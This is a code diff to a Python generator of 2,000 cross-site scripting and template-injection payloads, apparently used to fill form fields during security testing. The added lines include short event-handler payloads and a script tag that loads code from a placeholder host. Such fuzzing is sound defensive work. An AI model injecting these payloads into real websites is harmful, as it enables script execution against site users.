@@ -1,12 +1,12 @@
 """Two thousand texts that want to run: what starts a script, behind what leaves the place it stands in, in many disguises."""
 
-from collections.abc import Callable, Iterator
-from itertools import cycle, product
+from collections.abc import Callable
+from functools import cache
+from itertools import product
 from typing import Final
-from zlib import crc32
 
 HOW_MANY: Final = 2000
-_LONGEST: Final = 78  # so that each fits into every field
+LONGEST: Final = 78  # letters: so that each fits into nearly every field
 
 _STARTS: Final = (
     "<script>alert(1)</script>",
@@ -45,6 +45,19 @@ _STARTS: Final = (
     "{{constructor.constructor('alert(1)')()}}",
     "{% debug %}${alert(1)}#{alert(1)}",
     "[foto 1]<script>alert(1)</script>",
+    # Short ones, for the narrow fields.
+    "<svg/onload=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    "<script>alert`1`</script>",
+    "<script src=//x/a></script>",
+    "<a href=javascript:alert(1)>x",
+    "<p onmouseover=alert(1)>x",
+    "<b id=x tabindex=1 onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<i onpointerover=alert(1)>x",
+    "<q oncut=alert(1)>x",
+    "onclick=alert(1) x=",
+    "onload=alert(1)//",
 )
 _WAYS_OUT: Final = (
     "",
@@ -76,31 +89,10 @@ _DISGUISES: Final[tuple[Callable[[str], str], ...]] = (
 )
 
 
-def payloads() -> list[str]:
-    """All of them, the same at every run."""
+@cache
+def payloads(longest: int = LONGEST) -> list[str]:
+    """All that have at most so many letters, or 2,000 of them; the same at every run."""
     made = dict.fromkeys(way + disguise(start) for disguise, way, start in product(_DISGUISES, _WAYS_OUT, _STARTS))
-    short = [each for each in made if len(each) <= _LONGEST]
-    step = len(short) / HOW_MANY
-    return [short[int(number * step)] for number in range(HOW_MANY)]
-
-
-class Pen:
-    """Writes the payloads into fields, as many into each text as it holds; every field goes on where it stopped."""
-
-    def __init__(self) -> None:
-        self._all = payloads()
-        self._next: dict[str, Iterator[str]] = {}
-        self._left: dict[str, str] = {}
-        self.written: dict[str, set[str]] = {}
-
-    def fill(self, field: str, most: int) -> str:
-        """A text of at most so many letters for this field."""
-        begin = crc32(field.encode()) % HOW_MANY  # so that no two fields say the same
-        source = self._next.setdefault(field, cycle([*self._all[begin:], *self._all[:begin]]))
-        text, here = "", self._left.pop(field, None) or next(source)
-        while len(text) + len(here) < most:
-            text += f"{here} "
-            self.written.setdefault(field, set()).add(here)
-            here = next(source)
-        self._left[field] = here
-        return text.strip()
+    short = [each for each in made if len(each) <= longest]
+    step = max(1.0, len(short) / HOW_MANY)
+    return [short[int(number * step)] for number in range(min(HOW_MANY, len(short)))]
